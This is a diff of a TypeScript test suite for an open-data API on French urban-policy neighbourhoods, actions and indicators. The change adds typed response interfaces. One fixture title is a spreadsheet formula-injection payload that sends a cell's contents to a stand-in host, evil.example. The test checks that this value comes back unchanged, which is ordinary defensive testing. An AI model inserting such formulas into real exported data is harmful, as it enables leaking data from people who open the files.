@@ -4,18 +4,55 @@ import { Ajv2020 } from "ajv/dist/2020.js";
 import type { LightMyRequestResponse } from "fastify";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import type { TestWorld } from "../../../test/helpers.js";
+import type { ActionRecord, PlaceRecord } from "./present.js";
 import { createOpenDataWorld } from "./test-data.js";
 
 let w: TestWorld;
 /** What a save in the policy back office drops from the page cache. */
 const POLICY_TAGS = ["policy", "neighbourhoods", "opendata"];
 const get = (url: string) => w.app.inject({ url });
-const json = (res: LightMyRequestResponse) => JSON.parse(res.body) as any;
+
+// The answers' shapes as these tests read them (the OpenAPI document, checked below, is the contract).
+interface Paging {
+  page: number;
+  par_page: number;
+  total: number;
+  pages: number;
+}
+interface PlaceList {
+  data: Array<PlaceRecord & { geometrie?: { type: string } | null }>;
+  total: number;
+}
+interface ActionList {
+  data: ActionRecord[];
+  pagination: Paging;
+}
+interface ActionResponse {
+  data: ActionRecord;
+}
+interface IndicatorList {
+  data: unknown[];
+  pagination: Paging;
+}
+interface Problem {
+  status: number;
+  title: string;
+  "invalid-params"?: Array<{ name: string; reason: string }>;
+}
+interface OpenApiDoc {
+  openapi: string;
+  servers: unknown;
+  paths: Record<string, { get: { responses: Record<string, unknown>; parameters?: Array<{ name: string; description?: string }> } }>;
+  components: unknown;
+}
+
+/** The parsed body, read as T: no check here, the assertions that follow are the checks. */
+const json = <T = unknown>(res: LightMyRequestResponse) => JSON.parse(res.body) as T;
 const slugs = async (url: string) => {
   const res = await get(url);
   expect(res.statusCode, url).toBe(200);
-  return json(res)
-    .data.map((a: { slug: string }) => a.slug)
+  return json<ActionList | PlaceList>(res)
+    .data.map((a) => a.slug)
     .sort();
 };
 
@@ -45,9 +82,9 @@ describe("GET /api/v1/...", () => {
   });
 
   it("lists QPV and quartiers, with perimeters on request", async () => {
-    const qpv = json(await get("/api/v1/qpv"));
+    const qpv = json<PlaceList>(await get("/api/v1/qpv"));
     expect(qpv.total).toBe(2);
-    expect(qpv.data.find((p: any) => p.slug === "secteur-ouest")).toMatchObject({
+    expect(qpv.data.find((p) => p.slug === "secteur-ouest")).toMatchObject({
       code: "QN05901M",
       type: "qpv",
       population: 8200,
@@ -55,9 +92,9 @@ describe("GET /api/v1/...", () => {
       perimetre_disponible: true,
     });
     expect(qpv.data[0]).not.toHaveProperty("geometrie");
-    const withGeometry = json(await get("/api/v1/qpv?geometrie=true"));
-    expect(withGeometry.data.find((p: any) => p.slug === "secteur-ouest").geometrie.type).toBe("Polygon");
-    expect(withGeometry.data.find((p: any) => p.slug === "secteur-nord").geometrie).toBeNull();
+    const withGeometry = json<PlaceList>(await get("/api/v1/qpv?geometrie=true"));
+    expect(withGeometry.data.find((p) => p.slug === "secteur-ouest")?.geometrie?.type).toBe("Polygon");
+    expect(withGeometry.data.find((p) => p.slug === "secteur-nord")?.geometrie).toBeNull();
     expect(await slugs("/api/v1/quartiers")).toEqual(["centre", "hellemmes"]);
   });
 
@@ -74,18 +111,18 @@ describe("GET /api/v1/...", () => {
   });
 
   it("pages through actions", async () => {
-    const first = json(await get("/api/v1/actions?par_page=2"));
+    const first = json<ActionList>(await get("/api/v1/actions?par_page=2"));
     expect(first.pagination).toEqual({ page: 1, par_page: 2, total: 3, pages: 2 });
-    const second = json(await get("/api/v1/actions?par_page=2&page=2"));
+    const second = json<ActionList>(await get("/api/v1/actions?par_page=2&page=2"));
     expect(second.data).toHaveLength(1);
-    const seen = [...first.data, ...second.data].map((a: any) => a.slug).sort();
+    const seen = [...first.data, ...second.data].map((a) => a.slug).sort();
     expect(seen).toEqual(["action-a-venir", "action-formule", "action-terminee"]);
-    expect(json(await get("/api/v1/actions?par_page=2&page=3")).data).toEqual([]);
-    expect(json(await get("/api/v1/actions")).pagination.par_page).toBe(20);
+    expect(json<ActionList>(await get("/api/v1/actions?par_page=2&page=3")).data).toEqual([]);
+    expect(json<ActionList>(await get("/api/v1/actions")).pagination.par_page).toBe(20);
   });
 
   it("returns one action with funding lines, milestones, partners and places", async () => {
-    const { data } = json(await get("/api/v1/actions/action-formule"));
+    const { data } = json<ActionResponse>(await get("/api/v1/actions/action-formule"));
     expect(data).toMatchObject({
       slug: "action-formule",
       titre: '=HYPERLINK("http://evil.example/?"&A1)', // JSON is data, not a spreadsheet: kept as is
@@ -105,13 +142,13 @@ describe("GET /api/v1/...", () => {
       exemple: true,
       url: "https://portail.test/politique-de-la-ville/actions/action-formule",
     });
-    expect(data.lieux.map((l: any) => l.code ?? l.slug).sort()).toEqual(["QN05901M", "centre"]);
+    expect(data.lieux.map((l) => l.code ?? l.slug).sort()).toEqual(["QN05901M", "centre"]);
   });
 
   it("filters indicators by metric and territory", async () => {
-    const all = json(await get("/api/v1/indicateurs"));
+    const all = json<IndicatorList>(await get("/api/v1/indicateurs"));
     expect(all.pagination.total).toBe(3);
-    const poverty = json(await get("/api/v1/indicateurs?metric=taux_pauvrete&territoire=QN05901M"));
+    const poverty = json<IndicatorList>(await get("/api/v1/indicateurs?metric=taux_pauvrete&territoire=QN05901M"));
     expect(poverty.data).toEqual([
       {
         metric: "taux_pauvrete",
@@ -161,7 +198,7 @@ describe("API errors", () => {
       expect(res.statusCode, url).toBe(400);
       expect(res.headers["content-type"], url).toBe("application/problem+json; charset=utf-8");
       expect(res.headers["access-control-allow-origin"], url).toBe("*");
-      const body = json(res);
+      const body = json<Problem>(res);
       expect(body, url).toMatchObject({ type: "about:blank", title: "Demande incorrecte", status: 400 });
       expect(body["invalid-params"], url).toContainEqual({ name, reason: expect.stringMatching(reason) });
     }
@@ -186,12 +223,12 @@ describe("API errors", () => {
     expect((await get("/api/v1/actions/action-formule")).body).toBe(before.body); // still cached
     w.pageCache.invalidateTags(POLICY_TAGS);
     const after = await get("/api/v1/actions/action-formule");
-    expect(json(after).data.titre).toBe("Titre corrigé par l’équipe");
+    expect(json<ActionResponse>(after).data.titre).toBe("Titre corrigé par l’équipe");
     expect(after.headers.etag).not.toBe(before.headers.etag);
     expect((await w.app.inject({ url: "/api/v1/actions/action-formule", headers: { "if-none-match": before.headers.etag as string } })).statusCode).toBe(200);
     await w.db
       .updateTable("actions")
-      .set({ title: json(before).data.titre })
+      .set({ title: json<ActionResponse>(before).data.titre })
       .where("slug", "=", "action-formule")
       .execute();
     w.pageCache.invalidateTags(POLICY_TAGS);
@@ -220,7 +257,7 @@ function servedPaths(tree: string): string[] {
 }
 
 describe("/api/v1/openapi.json", () => {
-  const doc = () => get("/api/v1/openapi.json").then(json);
+  const doc = () => get("/api/v1/openapi.json").then((res) => json<OpenApiDoc>(res));
 
   it("is an OpenAPI 3.1 document describing every API path the app serves", async () => {
     const d = await doc();
@@ -231,7 +268,7 @@ describe("/api/v1/openapi.json", () => {
       .map((p) => p.slice("/api/v1".length).replace(/:(\w+)/g, "{$1}"));
     expect(served.length).toBeGreaterThanOrEqual(6);
     expect(Object.keys(d.paths).sort()).toEqual([...new Set(served)].sort());
-    for (const [path, item] of Object.entries<any>(d.paths)) {
+    for (const [path, item] of Object.entries(d.paths)) {
       expect(item.get.responses["200"], path).toBeDefined();
       for (const p of item.get.parameters ?? []) expect(p.description, `${path} ${p.name}`).toBeTruthy();
     }
